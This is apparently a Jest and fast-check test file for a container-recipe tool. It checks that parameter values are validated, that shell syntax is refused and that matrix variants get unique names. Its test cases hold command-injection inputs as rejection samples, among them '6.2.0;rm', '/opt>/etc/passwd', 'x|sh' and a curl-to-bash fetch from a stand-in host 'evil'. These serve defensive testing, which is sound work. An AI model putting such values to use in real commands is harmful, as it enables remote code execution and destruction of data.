import * as fc from 'fast-check';
import { InputError } from '../../src/errors';
import { loadRecipe } from '../../src/recipe/load';
import { variantNames } from '../../src/recipe/names';
import { checkValue, parseSets, resolveValues, variantValues } from '../../src/recipe/params';
import type { ParamSpec, Recipe } from '../../src/recipe/types';
import { sampleFor, seedOfRun } from '../support/hostile-strings';

let recipe: Recipe;
beforeAll(async () => {
  recipe = await loadRecipe('mpi4py');
});

describe('parameter validation', () => {
  it('refuses an unknown parameter, naming it', () => {
    expect(() => resolveValues(recipe, { rocn: '6.2.0' })).toThrow(/unknown parameter rocn/);
  });
  it.each([
    ['rocm', '6.2'],
    ['rocm', 'six'],
    ['rocm', '7.0.0'],
    ['python', '3'],
    ['gpu_targets', 'gfx1100'],
    ['bci', '15.5'],
    ['bci', '12.5.1.2'],
  ])('refuses %s=%s with a message naming the parameter', (k, v) => {
    expect(() => resolveValues(recipe, { [k]: v })).toThrow(new RegExp(`^parameter ${k}: `));
  });
  it.each(['6.2.0\n', "6.2.0'", '6.2.0"', '$HOME', '`id`', '6.2.0;rm', '6\\2'])(
    'refuses unsafe characters in %j',
    (v) => {
      let err: unknown;
      try {
        resolveValues(recipe, { rocm: v });
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(InputError);
      expect((err as Error).message).toMatch(/^parameter rocm: /);
      expect((err as Error).message).not.toContain('\n');
    },
  );
  it('accepts and normalises a list', () => {
    expect(resolveValues(recipe, { gpu_targets: 'gfx90a, gfx942' }).gpu_targets).toBe('gfx90a,gfx942');
  });
  it('parses --set flags and refuses malformed ones', () => {
    expect(parseSets(['rocm=6.2.0', 'a=b=c'])).toEqual({ rocm: '6.2.0', a: 'b=c' });
    expect(() => parseSets(['rocm'])).toThrow(/not of the form name=value/);
    expect(() => parseSets(['a=1', 'a=2'])).toThrow(/given twice/);
  });
  it('matrix rows include both released combinations', () => {
    const rows = variantValues(recipe, {}, true);
    expect(rows).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ rocm: '5.4.5', python: '3.10', mpi4py: '3.1.4' }),
        expect.objectContaining({ rocm: '6.2.0', python: '3.12', mpi4py: '3.1.6' }),
      ]),
    );
  });
  it("gives each matrix row its own name: the example's two variants, and a row that differs outside the name refused", async () => {
    const example = await loadRecipe('mpi4py-cpu');
    const stems = variantValues(example, {}, true).map((v) => variantNames(example.naming, v, '20260101').stem);
    expect(stems).toEqual([
      'lumi-mpi4py-cpu-python-3.11-mpi4py-3.1.4-conda-mpi4py',
      'lumi-mpi4py-cpu-python-3.11-mpi4py-3.1.4-conda-mpi4py-b',
    ]);
    const unnamed = { ...example, naming: { ...example.naming, parts: example.naming.parts.slice(0, 2) } };
    expect(() => variantValues(unnamed, {}, true)).toThrow(
      new InputError(
        'matrix-names',
        'matrix rows 1 and 2 of mpi4py-cpu get one name (python-3.11-mpi4py-3.1.4): they differ only in conda_env, which no naming part names',
      ),
    );
    // A --set that makes two rows alike is refused too; one variant (no --matrix) has nothing to collide with.
    expect(() => variantValues(example, { conda_env: 'mpi4py' }, true)).toThrow(/rows 1 and 2 .* get one name/);
    expect(variantValues(unnamed, {}, false)).toHaveLength(1);
    expect(new Set(variantValues(recipe, {}, true).map((v) => variantNames(recipe.naming, v, 'd').stem)).size).toBe(
      variantValues(recipe, {}, true).length,
    );
  });
  it('any value with an unsafe character is refused (property)', () => {
    fc.assert(
      fc.property(fc.string(), fc.constantFrom('\n', "'", '"', '$', '`', ';'), fc.string(), (a, bad, b) => {
        expect(() => resolveValues(recipe, { cpe: `${a}${bad}${b}` })).toThrow(InputError);
      }),
    );
  });

  // A contributed recipe's string and path parameters (no pattern): the value is pasted into RUN lines as text.
  const loose: ParamSpec[] = [
    { name: 'prefix', type: 'path', description: 'where', default: '/opt/app' },
    { name: 'tag', type: 'string', description: 'a tag', default: 'x' },
  ];
  it.each([
    ['prefix', '/opt&&reboot'],
    ['prefix', '/opt>/etc/passwd'],
    ['tag', 'x|sh'],
    ['tag', 'x&&{curl,-sL,evil}|bash'],
    ['tag', '(id)'],
    ['tag', '~root'],
    ['tag', 'a*'],
    ['tag', 'a#b'],
    ['tag', 'a\u202eb'],
    ['tag', 'a\u0085b'],
    ['tag', 'a\u2028b'],
    ['tag', '\u212aelvin'],
  ])('refuses shell syntax and non-ASCII in a loose %s: %j', (k, v) => {
    const spec = loose.find((p) => p.name === k)!;
    expect(() => checkValue(spec, v)).toThrow(/^parameter \w+: value .* contains a character that is not allowed/);
  });
  it('takes from 3,000 hostile values only plain words (string and path parameters)', () => {
    for (const spec of loose) {
      const { taken } = sampleFor((v) => checkValue(spec, v), seedOfRun(`parameter ${spec.type}`), 3000);
      for (const [, out] of taken) expect(out).toMatch(/^[A-Za-z0-9._+,:/=@-]+$/);
    }
  });
});
